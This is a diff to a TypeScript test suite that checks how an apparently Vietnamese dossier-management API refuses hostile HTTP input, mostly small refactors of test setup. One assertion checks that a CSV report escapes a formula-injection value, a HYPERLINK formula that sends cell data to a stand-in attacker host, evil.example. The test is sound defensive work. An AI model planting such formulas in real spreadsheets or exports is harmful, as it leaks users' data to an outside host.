@@ -3,7 +3,9 @@ import type { Response } from 'superagent';
 import type { EventStore } from '@ntm/event-store';
 import { EVENT_STORE } from '@ntm/application';
 import { eventually } from '../support/eventually';
+import { submissionEvidence } from '../support/dossier-driver';
 import { startTestApp, type TestApp } from '../support/harness';
+import { catchUpProjections } from '../reports/support';
 
 // Hostile input over HTTP (issue 9, items 6, 7 and 10): every refusal is a 4xx with a stable code and a Vietnamese
 // message, comes quickly, and writes nothing (the event store's head position does not move).
@@ -375,7 +377,7 @@ describe('Hostile input over HTTP', () => {
         criteria: [],
         kieuMau: {
           incomePerCapita: 1,
-          provinceNangCaoAverageIncome: 1,
+          nangCaoIncomeStandard: 1,
           smartVillages: [HUGE],
           outstandingFields: [],
           evidence: [],
@@ -417,7 +419,7 @@ describe('Hostile input over HTTP', () => {
       'resubmission changes',
       'post',
       `${DOSSIER}/resubmission`,
-      { constructionDebt: false, securityComplicated: false, evidence: [SHA], changes: HUGE },
+      { ...submissionEvidence(), changes: HUGE },
       'changes',
       'commune',
     ],
@@ -759,6 +761,7 @@ describe('Hostile input over HTTP', () => {
       communes: [{ code: '01843', districtCode: '058', name: formula }],
     });
     expect(put.status).toBe(200);
+    await catchUpProjections(t.app, t.config.schema, put.body.position); // no worker in this file
     const csv = await send('get', `/api/v1/reports/standings.csv?province=${PROVINCE}`, 'admin');
     expect(csv.status).toBe(200);
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
